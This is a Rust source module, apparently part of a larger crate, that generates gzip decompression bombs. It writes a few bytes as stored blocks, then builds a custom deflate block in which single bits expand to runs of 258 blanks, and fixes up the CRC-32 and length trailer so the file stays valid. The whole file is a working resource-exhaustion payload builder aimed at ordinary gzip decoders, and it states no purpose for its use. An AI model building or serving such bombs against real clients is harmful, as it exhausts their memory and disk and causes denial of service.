//! Encodes gzip bombs: a few bytes as they are, then a thousand blanks for each byte on the wire.

/// Bytes in one stored block.
const STORED: usize = u16::MAX as usize;
/// The longest repetition that deflate can encode.
const LONGEST: u64 = 258;

/// Gzips `bytes`, followed by `blanks` blanks.
pub(crate) fn bomb(bytes: &[u8], blanks: u64) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    for block in bytes.chunks(STORED) {
        let length = u16::try_from(block.len()).unwrap();
        out.push(0);
        out.extend(length.to_le_bytes());
        out.extend((!length).to_le_bytes());
        out.extend(block);
    }
    out.extend(repeated(blanks));
    let sum = bytes.iter().fold(u32::MAX, |sum, &byte| crc(sum, byte));
    out.extend((!Step::blanks(blanks).apply(sum)).to_le_bytes());
    #[allow(clippy::cast_possible_truncation, reason = "the format has the length modulo 2^32")]
    out.extend((bytes.len() as u64).wrapping_add(blanks).to_le_bytes()[..4].iter());
    out
}

/// Encodes the last block with its own code: one bit for "258 more" and one for "of the byte before", both zero.
fn repeated(blanks: u64) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.number(0b101, 3); // the last block, with codes of its own
    bits.number(29, 5); // 286 lengths of literals and repetitions
    bits.number(0, 5); // 1 length of distances
    bits.number(14, 4); // 18 lengths of the code for lengths, in the order of the format
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        bits.number(
            u64::from(match symbol {
                18 => 1_u8,
                1 | 2 => 2,
                _ => 0,
            }),
            3,
        );
    }
    // In that code 18, a run of zeros, is 0; 1 is 10; 2 is 11.
    let zeros = |bits: &mut Bits, run: u64| {
        bits.code("0");
        bits.number(run - 11, 7);
    };
    zeros(&mut bits, 32);
    bits.code("11"); // the blank: two bits
    zeros(&mut bits, 138);
    zeros(&mut bits, 85);
    bits.code("11"); // the end: two bits
    zeros(&mut bits, 28);
    bits.code("10"); // 258 more: one bit
    bits.code("10"); // of the byte before: one bit

    let repeats = blanks.saturating_sub(1) / LONGEST;
    let single = blanks - repeats * LONGEST;
    for _ in 0..single {
        bits.code("10");
    }
    bits.zeros(2 * repeats);
    bits.code("11");
    bits.bytes
}

/// Bits in deflate's order, the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    length: u64,
}

impl Bits {
    fn bit(&mut self, bit: bool) {
        if self.length.is_multiple_of(8) {
            self.bytes.push(0);
        }
        *self.bytes.last_mut().unwrap() |= u8::from(bit) << (self.length % 8);
        self.length += 1;
    }

    fn number(&mut self, value: u64, bits: u32) {
        (0..bits).for_each(|bit| self.bit(value >> bit & 1 == 1));
    }

    fn code(&mut self, code: &str) {
        code.bytes().for_each(|bit| self.bit(bit == b'1'));
    }

    fn zeros(&mut self, count: u64) {
        self.length += count;
        self.bytes.resize(usize::try_from(self.length.div_ceil(8)).unwrap(), 0);
    }
}

/// The effect of blanks on a CRC-32. It is an affine map, so a billion blanks take thirty squarings.
struct Step {
    columns: [u32; 32],
    constant: u32,
}

impl Step {
    fn new(map: impl Fn(u32) -> u32) -> Self {
        let constant = map(0);
        Self { columns: std::array::from_fn(|bit| map(1 << bit) ^ constant), constant }
    }

    fn blanks(mut count: u64) -> Self {
        let mut square = Self::new(|sum| crc(sum, b' '));
        let mut product = Self::new(|sum| sum);
        while count > 0 {
            if count & 1 == 1 {
                product = product.then(&square);
            }
            square = square.then(&square);
            count >>= 1;
        }
        product
    }

    fn then(&self, next: &Self) -> Self {
        Self::new(|sum| next.apply(self.apply(sum)))
    }

    fn apply(&self, sum: u32) -> u32 {
        (0..32).filter(|bit| sum >> bit & 1 == 1).fold(self.constant, |result, bit| result ^ self.columns[bit])
    }
}

fn crc(sum: u32, byte: u8) -> u32 {
    (0..8).fold(sum ^ u32::from(byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 })
}
